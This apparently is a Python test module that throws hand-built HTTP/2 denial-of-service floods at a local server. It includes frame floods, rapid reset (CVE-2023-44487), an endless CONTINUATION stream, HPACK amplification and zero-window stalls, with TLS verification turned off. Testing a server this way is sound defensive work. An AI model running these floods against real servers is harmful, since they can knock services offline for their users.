"""What hostile clients do to a server over HTTP/2. The frames are written by hand, since a library would not send them."""

from __future__ import annotations

import asyncio
import contextlib
import itertools
import ssl
from collections.abc import Callable
from typing import Any, Final

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)
from tests.support.faults import Connection, call, encode, modern_headers

from .hostile_clients import Peer, attack

ANYBODY: Final = ssl.create_default_context()
ANYBODY.check_hostname = False
ANYBODY.verify_mode = ssl.CERT_NONE
ANYBODY.set_alpn_protocols(["h2"])


class Session:
    """One connection that speaks HTTP/2: it numbers its streams, and counts how the server ends it."""

    def __init__(self, peer: Peer, connection: Connection) -> None:
        self.peer = peer
        self.connection = connection
        self.stream = -1
        self._encoder = Encoder()

    def call(self, tool: str, arguments: dict[str, Any]) -> bytes:
        message = call(tool, arguments)
        head = self.head(modern_headers(message))
        return head + DataFrame(self.stream, encode(message), flags=["END_STREAM"]).serialize()

    def head(self, fields: dict[str, str] | None = None) -> bytes:
        self.stream += 2
        pairs = [(":method", "POST"), (":scheme", "https"), (":path", "/mcp")]
        pairs.append((":authority", f"127.0.0.1:{self.peer.port}"))
        pairs += [(name.lower(), value) for name, value in (fields or {}).items() if name.lower() != "host"]
        return HeadersFrame(self.stream, self._encoder.encode(pairs), flags=["END_HEADERS"]).serialize()

    async def send(self, data: bytes) -> bool:
        return await self.peer.send(self.connection, data)

    async def read_to_the_end(self) -> None:
        """Count the GOAWAY with its error code, or that the connection was cut without one."""
        reader = self.connection.reader
        try:
            while True:
                frame, length = Frame.parse_frame_header(memoryview(await reader.readexactly(9)))
                frame.parse_body(memoryview(await reader.readexactly(length)))
                if isinstance(frame, GoAwayFrame):
                    self.peer.answers[f"goaway {frame.error_code}"] += 1
                    return
        except (asyncio.IncompleteReadError, OSError):
            self.peer.answers["cut off"] += 1


Flood = Callable[[Session], bytes]


async def open_session(peer: Peer, **settings: int) -> Session:
    connection = await peer.connect()
    await connection.writer.start_tls(ANYBODY)
    values = {getattr(SettingsFrame, name): value for name, value in settings.items()}
    session = Session(peer, connection)
    await session.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + SettingsFrame(0, settings=values).serialize())
    return session


async def flood(peer: Peer, *floods: Flood, connections: int = 2) -> None:
    """Send what a flood makes, again and again, on a new connection each time the server ends one."""
    source = itertools.cycle(floods)

    async def worker() -> None:
        while peer.goes_on:
            make = next(source)
            with contextlib.suppress(OSError):
                session = await open_session(peer)
                async with session.connection:
                    reading = asyncio.create_task(session.read_to_the_end())
                    while not reading.done() and await session.send(make(session)):
                        pass
                    reading.cancel()

    await peer.crowd(worker, connections)


@attack("HTTP/2: frames that ask for nothing", "tls")
async def idle_frames(peer: Peer) -> None:
    """CVE-2019-9512, 9515, 9518: the server has something to do for each, and the client nothing."""
    frames = [
        PingFrame(0, b"12345678"),
        SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65535}),
        PriorityFrame(1, depends_on=0, stream_weight=5),
        WindowUpdateFrame(0, window_increment=1),
    ]
    blocks = [frame.serialize() * 1000 for frame in frames]
    await flood(peer, *((lambda _, block=block: block) for block in blocks))


@attack("HTTP/2: empty and padded data", "tls")
async def empty_data(peer: Peer) -> None:
    def empty(session: Session) -> bytes:
        return session.head() + DataFrame(session.stream, b"").serialize() * 1000

    def padded(session: Session) -> bytes:
        return session.head() + DataFrame(session.stream, b"x", pad_length=200, flags=["PADDED"]).serialize() * 150

    await flood(peer, empty, padded)


@attack("HTTP/2: requests that are reset at once", "tls")
async def rapid_reset(peer: Peer) -> None:
    """CVE-2023-44487."""

    def reset(session: Session) -> bytes:
        pairs = [
            session.call("wait", {"seconds": 5}) + RstStreamFrame(session.stream, 8).serialize() for _ in range(20)
        ]
        return b"".join(pairs)

    await flood(peer, reset)


@attack("HTTP/2: heads without end", "tls")
async def endless_head(peer: Peer) -> None:
    """CVE-2024-27316: CONTINUATION frames that never say that they are the last."""
    start = HeadersFrame(1, b"\x00\x01a\x7f\xff\x7f" + b"x" * 1000).serialize()
    more = ContinuationFrame(1, b"x" * 1000).serialize() * 30
    await flood(peer, lambda _: start + more)


@attack("HTTP/2: heads that unpack to much", "tls")
async def hpack_references(peer: Peer) -> None:
    """One byte stands for three kilobytes; in blocks just within the limit of a frame, and far within it."""

    def unpack(session: Session, references: int) -> bytes:
        session.stream += 2
        block = Encoder().encode([("x-large", "y" * 3000)]) + b"\xbe" * references
        return HeadersFrame(session.stream, block, flags=["END_HEADERS", "END_STREAM"]).serialize()

    await flood(peer, lambda session: unpack(session, 5000), lambda session: unpack(session, 6))


@attack("HTTP/2: answers without a window", "tls")
async def closed_window(peer: Peer) -> None:
    """Large answers are asked for, and no room is ever given for them."""

    async def worker() -> None:
        while peer.goes_on:
            with contextlib.suppress(OSError):
                session = await open_session(peer, INITIAL_WINDOW_SIZE=0)
                async with session.connection:
                    for _ in range(50):
                        await session.send(session.call("big", {"size": 2_000_000}))
                    while peer.goes_on and not session.connection.reader.at_eof():
                        await asyncio.sleep(0.2)
                    peer.answers["not read"] += 1

    await peer.crowd(worker, 4)
